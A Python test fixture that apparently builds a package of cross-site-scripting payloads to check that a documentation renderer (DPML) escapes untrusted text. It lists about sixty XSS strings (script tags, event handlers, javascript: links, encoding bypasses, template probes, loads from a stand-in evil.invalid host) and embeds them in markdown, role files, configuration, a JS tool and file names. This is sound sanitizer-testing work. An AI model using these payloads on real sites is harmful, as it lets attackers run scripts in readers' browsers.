"""A package of somebody who wants to run scripts in the readers' browsers: every payload in every place for text."""

from types import MappingProxyType

EVIL = "https://evil.invalid"
# `__pwned` is a list that each page of the tests has; what stands in it afterwards has run.
ACT = "__pwned.push(1)"
PAYLOADS = (
    f"<script>{ACT}</script>",
    f"<ScRiPt >{ACT}</sCrIpT >",
    f"<script src={EVIL}/x.js></script>",
    f"</script><script>{ACT}</script>",
    f"</title><script>{ACT}</script>",
    f"</textarea><script>{ACT}</script>",
    f"</style><script>{ACT}</script>",
    f"--><script>{ACT}</script><!--",
    f"]]><script>{ACT}</script>",
    f"<!--><script>{ACT}</script>-->",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f"<img src=x onerror={ACT}>",
    f"<img src='x' onerror='{ACT}'>",
    f"<img/src=x/onerror={ACT}>",
    f"<img src={EVIL}/pixel.png>",
    f'"><img src=x onerror={ACT}>',
    f"'><img src=x onerror={ACT}>",
    f'" autofocus onfocus="{ACT}" x="',
    f"' autofocus onfocus='{ACT}' x='",
    f"` onmouseover={ACT} `",
    f"<svg onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{ACT}"><text x=1 y=9>go</text></a></svg>',
    f"<math><mtext></mtext><mglyph><style></math><img src onerror={ACT}>",
    f"<body onload={ACT}>",
    f"<details open ontoggle={ACT}>x</details>",
    f"<input autofocus onfocus={ACT}>",
    f"<video><source onerror={ACT}></video>",
    f"<marquee onstart={ACT}>x</marquee>",
    f"<iframe srcdoc='<script>parent.{ACT}</script>'></iframe>",
    f'<iframe src="javascript:parent.{ACT}"></iframe>',
    f"<object data={EVIL}/x.swf></object>",
    f"<embed src={EVIL}/x.swf>",
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    f"<base href={EVIL}/>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<style>@import url({EVIL}/x.css)</style>",
    f"<p style=background:url({EVIL}/x.png)>x</p>",
    f"<form action={EVIL}/><button>go</button></form>",
    f"[go](javascript:{ACT})",
    f"[go](JaVaScRiPt:{ACT})",
    f"[go](&#106;avascript&colon;{ACT})",
    f"[go](java&Tab;script:{ACT})",
    f"[go](\x01javascript:{ACT})",
    f"[go](data:text/html,<script>{ACT}</script>)",
    f"[go](vbscript:{ACT})",
    f"<javascript:{ACT}>",
    f"[go]: javascript:{ACT}",
    f'![x]({EVIL}/pixel.png "y")',
    f'![x](x" onerror="{ACT})',
    "{{7*7}} {% raw %} {# x #} ${7*7} <%= 7*7 %>",
    f"\u2028{ACT}\u2029",
    f"\\u003cscript\\u003e{ACT}\\u003c/script\\u003e",
    f"\\');{ACT}//",
    f'\\");{ACT}//',
    f"`;{ACT};`",
    f"&lt;script&gt;{ACT}&lt;/script&gt;",
    f"&#60;script&#62;{ACT}&#60;/script&#62;",
    f"\x7f<script>{ACT}</script>",
)


def lines(form: str) -> str:
    """`form` once for each payload."""
    return "\n\n".join(form.replace("PAYLOAD", each) for each in PAYLOADS)


def quoted(payload: str) -> str:
    """A payload as the value of an attribute in a DPML document."""
    return payload.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def flat(payload: str) -> str:
    """A payload that may stand in a cell of a table or in a line of a configuration."""
    return payload.replace("|", "\\|").replace("\x01", "")


def literal(payload: str) -> str:
    """A payload as a string of JavaScript or TOML."""
    plain = payload.replace("\x01", "")
    return '"' + plain.replace("\\", "\\\\").replace('"', '\\"') + '"'


PROSE = "\n\n".join(
    (
        "---\ntitle: " + literal(PAYLOADS[3]) + "\n---",
        "# " + PAYLOADS[11],
        lines("PAYLOAD"),
        lines("## PAYLOAD"),
        lines("- PAYLOAD"),
        lines("> PAYLOAD"),
        lines("`` PAYLOAD ``"),
        lines('[x](<PAYLOAD> "PAYLOAD")'),
        lines("![PAYLOAD](PAYLOAD)"),
        lines("```PAYLOAD\nPAYLOAD\n```"),
        lines("``` {PAYLOAD}\nPAYLOAD\n```"),
        lines("$PAYLOAD$ ~~PAYLOAD~~ [^PAYLOAD]"),
        "> [!NOTE] " + PAYLOADS[0] + "\n> x",
        "| a | b |\n|---|---|\n" + "\n".join(f"| {flat(each)} | `{flat(each)}` |" for each in PAYLOADS),
        '```mermaid\ngraph LR; a["' + PAYLOADS[11] + '"] --> b\n```',
    )
)
ROLE = (
    f'# {PAYLOADS[11]}\n\n{PAYLOADS[0]}\n\n<role id="{quoted(PAYLOADS[15])}">\n  <personality>\n'
    + "\n".join(f'    <part name="{quoted(each)}">\n      {each}\n    </part>' for each in PAYLOADS)
    + "\n  </personality>\n  <principle>\n"
    + "\n".join(f"    See @!thought://{each} and @?file://{each} and @file://PROSE.md" for each in PAYLOADS)
    + "\n    @!thought://inner\n  </principle>\n</role>\n"
)
UNIT = (
    f"# {PAYLOADS[0]}\n\n{PAYLOADS[11]}\n\n"
    '<resource protocol="evil">\n  <location>\n    ```ebnf\n    location ::= evil://{x}\n'
    f"    x ::= '{PAYLOADS[0]}' | \"{PAYLOADS[11]}\" (* {PAYLOADS[0]} *) | letter\n    letter ::= [a-z]\n"
    "    ```\n  </location>\n"
    "  <params>\n    | name | type | description | example |\n    |---|---|---|---|\n"
    + "\n".join(f"    | p{at} | {flat(each)} | {flat(each)} | {flat(each)} |" for at, each in enumerate(PAYLOADS))
    + "\n  </params>\n  <registry>\n    | id | target |\n    |---|---|\n"
    + "\n".join(f"    | {flat(each)} | @file://{flat(each)} |" for each in PAYLOADS)
    + "\n  </registry>\n</resource>\n"
)
STRUCTURE = (
    f"# {PAYLOADS[11]}\n\n{PAYLOADS[0]}\n\n```ebnf\n"
    "receipt_element ::= '<receipt' attributes? '>' (line_element)+ '</receipt>'\n"
    f"line_element ::= '<line>' markdown_content '</line>' (* {PAYLOADS[0]} *)\nattributes ::= (' ' attribute)+\n```\n"
)
ATTRIBUTES = "# Attributes\n\n| name | type | applies to | meaning |\n|---|---|---|---|\n" + "\n".join(
    f"| a{at} | enum({flat(each)}, b) | {flat(each)} | {flat(each)} |" for at, each in enumerate(PAYLOADS)
)
TERMS = (
    "<terminologies>\n"
    + "\n".join(
        f"  <terminology>\n    <zh>{each}</zh>\n    <en>\n      {each}\n    </en>\n    <definition>\n      {each}\n"
        f"    </definition>\n    <examples>\n      <example>{each}</example>\n    </examples>\n  </terminology>"
        for each in (*PAYLOADS[:3], *PAYLOADS[40:53])
    )
    + "\n</terminologies>\n"
)
METADATA = ", ".join(
    f"{name}: {literal(each)}"
    for name, each in zip(("name", "description", "version", "author"), PAYLOADS[10:], strict=False)
)
PROPERTIES = "\n".join(
    f"[{literal(each)}]: {{ type: 'string', description: {literal(each)}, default: {literal(each)} }},"
    for each in PAYLOADS
)
TOOL = (
    f"module.exports = {{\n  getMetadata() {{ return {{ {METADATA} }}; }},\n"
    f"  getSchema() {{ return {{ type: 'object', properties: {{\n{PROPERTIES}\n}} }}; }},\n"
    "  async execute() { return 1; },\n};\n"
)
# `url` and `edit` take no such characters at all: the configuration would be refused.
CONFIGURATION = f"[site]\ntitle = {literal(PAYLOADS[4])}\ndescription = {literal(PAYLOADS[15])}\n"
FILES = MappingProxyType(
    {
        "dpml.toml": CONFIGURATION,
        "README.md": PROSE,
        "PROSE.md": PROSE,
        "role/evil/evil.role.md": ROLE,
        "role/evil/thought/inner.thought.md": f"<thought>\n  <plan>\n{lines('    PAYLOAD')}\n  </plan>\n</thought>\n",
        "evil.resource.md": UNIT,
        "receipt.protocol.md": STRUCTURE,
        "evil.attributes.md": ATTRIBUTES,
        "words.terms.md": TERMS,
        "evil.tool.js": TOOL,
        "guides/<img src=x onerror=__pwned.push(1)>.md": f"# {PAYLOADS[3]}\n\nx\n",
        "guides/\"><script>__pwned.push(1)<.md": "x\n",
        "guides/' onfocus=__pwned.push(1) autofocus '.thought.md": "<thought>x</thought>\n",
        "guides/{{7*7}}.md": "# {{7*7}}\n\n{{7*7}}\n",
        "guides/javascript:__pwned.push(1).md": "[back](<javascript:__pwned.push(1).md>)\n",
    }
)  # fmt: skip
